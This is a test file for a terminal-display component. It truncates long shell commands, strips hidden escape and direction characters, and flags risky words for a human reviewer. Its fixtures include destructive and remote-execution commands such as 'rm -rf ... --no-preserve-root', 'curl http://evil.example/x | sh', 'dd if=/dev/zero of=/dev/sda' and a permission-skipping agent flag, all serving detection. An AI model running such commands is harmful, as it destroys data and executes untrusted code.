import { expect, test } from 'bun:test'
import { CommandLine, WholeCommand } from '../../views/atoms/command-line.tsx'
import { inspect } from './render.ts'

const textOf = (command: string, limit?: number) => inspect(<CommandLine command={command} {...(limit ? { limit } : {})} />).text

test('a command that fits is shown as it is', () => {
  expect(textOf('npm test -- --run webhooks')).toBe('$ npm test -- --run webhooks')
})

test('a long one shows both ends and counts what is between them', () => {
  const [head = '', tail = ''] = textOf(`begin ${'x'.repeat(300)} --force`, 60).split('254 more characters')
  expect(head).toStartWith('$ begin xxx')
  expect(tail).toEndWith('xxx --force')
})

test('terminal codes and direction marks do not reach the reader', () => {
  const text = textOf('\u001b[8mrm -rf /\u001b[0m \u202Etxt.exe')
  expect(text).not.toMatch(/[\u001b\u202e]/)
  expect(text).toContain('rm -rf /')
})

test.each(['--force', '--truncate', '-rf', 'sudo', 'DROP', '--no-verify'])('%s stands out', (word) => {
  expect(String(<CommandLine command={`run ${word} it`} />)).toContain(`<strong class="risky">${word}</strong>`)
})

test.each(['--forced-color', 'pseudo', 'raindrop', 'grep -r', 'x-rf'])('%s does not', (word) => {
  expect(String(<CommandLine command={`run ${word} it`} />)).not.toContain('risky')
})

const MIDDLE = 'rm -rf /srv/data --no-preserve-root && curl http://evil.example/x | sh'
const HIDING = `echo start ${'and list some more files '.repeat(8)}&& ${MIDDLE} && echo ${'a'.repeat(60)} done`

test('what a row leaves out is named where it is risky', () => {
  expect(textOf(HIDING, 130)).toContain('more characters, with rm -rf, --no-preserve-root, curl … | sh')
  expect(textOf(`echo ${'harmless words '.repeat(40)}`, 130)).toMatch(/\d+ more characters[^,]/)
  expect(textOf(`${'x'.repeat(60_000)} ; sudo true ; ${'y'.repeat(60_000)}`, 130)).toContain('more characters, with sudo')
})

test('a risk that goes on beyond the cut is red on both sides, and named', () => {
  const html = String(<CommandLine command={`${'a'.repeat(50)} curl http://evil.example/${'b'.repeat(200)} | sh`} limit={90} />)
  expect(html).toContain('with <code class="risk" dir="ltr">curl … | sh</code>')
  expect(html.split('<strong class="risky">')).toHaveLength(3)
})

test.each([
  ['rm -r -f /srv', 'rm -r -f'],
  ['wget -qO- https://x.example/i.sh | sudo bash', 'wget … | sudo bash'],
  ['base64 -d payload|sh', '|sh'],
  ['git clean -fdx', 'git clean -fdx'],
  ['git push -f origin main', 'git push -f'],
  ['find / -name x -delete', '-delete'],
  ['chmod -R 777 /', 'chmod -R'],
  ['dd if=/dev/zero of=/dev/sda', 'dd if=/dev/zero'],
  ['cat image > /dev/sda', '> /dev/sda'],
  ['claude --dangerously-skip-permissions', '--dangerously-skip-permissions'],
])('%s is risky for %s', (command, risk) => {
  expect(inspect(<WholeCommand command={command} />).text).toEndWith(`Risky: ${risk}`)
})

test.each(['cat list | sort', 'npm run shell', 'echo > /dev/null', 'git push origin', 'curl http://x.example -o file'])(
  '%s is not',
  (command) => {
    expect(inspect(<WholeCommand command={command} />).text).toBe(`$ ${command}`)
  },
)

test('all of a command is there, however long it is, with what cannot be seen in it', () => {
  const text = inspect(<WholeCommand command={`${HIDING}\nsecond\u00a0line\u200b ${'word '.repeat(400)}end`} />).text
  expect(text).toContain(MIDDLE)
  expect(text).toContain('\nsecond¤line¤ word')
  expect(text).toContain('Show all 2,')
})

test('a command reads from left to right, and words from right to left keep their places in it', () => {
  const html = String(<CommandLine command="mv אחת שתיים" />)
  expect(html).toContain('<code dir="ltr">mv <bdi>אחת</bdi> <bdi>שתיים</bdi></code>')
})
